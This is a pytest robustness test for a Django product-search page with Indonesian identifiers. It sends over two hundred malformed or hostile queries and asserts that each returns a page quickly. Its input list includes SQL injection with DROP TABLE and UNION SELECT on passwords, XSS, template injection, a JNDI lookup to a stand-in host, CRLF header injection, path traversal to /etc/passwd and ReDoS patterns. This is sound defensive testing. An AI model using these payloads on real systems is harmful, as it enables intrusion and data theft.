"""Two hundred queries that mean harm or nonsense: each gets a page, soon, and never a 500."""

import time
from itertools import product
from urllib.parse import urlencode

import pytest

from tests.purchasing.pabrik import buat_penyedia, buat_produk

pytestmark = pytest.mark.django_db
DETIK_MAKS = 3
TEKS = [
    "'",
    '"',
    "' OR 1=1 --",
    "'; DROP TABLE etalase_produk; --",
    "kursi' UNION SELECT password FROM akun_pengguna --",
    "kursi & meja | !rak",
    "kursi <-> meja:*",
    "(((((((((kursi",
    "kursi:A",
    "kursi AND NOT meja",
    "+kursi -meja ~rak *lemari",
    "^(a+)+$",
    "(.*.*.*.*)*kursi",
    "[a-z]{1,99999}",
    "%%%%%%",
    "______",
    "\\\\\\",
    "\\x00\\u0000",
    "kur\x00si",
    "kursi\r\nSet-Cookie: a=b",
    "\u202eisruk\u202c",
    "k\u200bu\u200br\u200bs\u200bi",
    "k\u0301\u0301\u0301\u0301ursi",
    "🪑🪑🪑",
    "👨‍👩‍👧‍👦 kursi",
    "ＫＵＲＳＩ",
    "KURSI" * 2_000,
    "a " * 5_000,
    "1" * 10_000,
    "1x" * 3_000,
    "9.9.9.9.9.9.9.9,9,9,9",
    "0x1F 1e309 -1 NaN Infinity",
    "5kg" * 500,
    "#kursi #SKU-1",
    "~kursi",
    "<script>alert(1)</script>",
    "{{ 7*7 }} {% debug %}",
    "${jndi:ldap://jahat.test/a}",
    "../../../etc/passwd",
    "\ud7ff\ue000\ufffd",
]
LAIN = [
    {},
    {"wil": ["99.99", "35.78"], "usaha": ["umk"] * 40, "tkdn": ["utama", "x"]},
    {"hal": "99999999999", "urut": "murah"},
    {"harga_min": "9" * 30, "harga_maks": "-1", "kirim": "0", "spek_x": ["y"] * 30},
    {"kursor": ["m.....", "sffffff.-1.\x00"], "hal": "2"},
    {"hal": "417", "urut": "dekat", "layani": "semua", "pdn": ["utama", "'"]},
]


def test_two_hundred_hostile_queries_get_a_page_soon(client):
    buat_produk(buat_penyedia(), nama="Kursi rapat besi")
    semua = [
        {"q": teks.encode("utf-8", "surrogatepass"), **lain} for teks, lain in product(TEKS, LAIN)
    ]
    assert len(semua) >= 200
    for isi in semua:
        mulai = time.perf_counter()
        response = client.get(f"/cari/?{urlencode(isi, doseq=True)}")
        assert response.status_code == 200, isi
        assert time.perf_counter() - mulai < DETIK_MAKS, isi
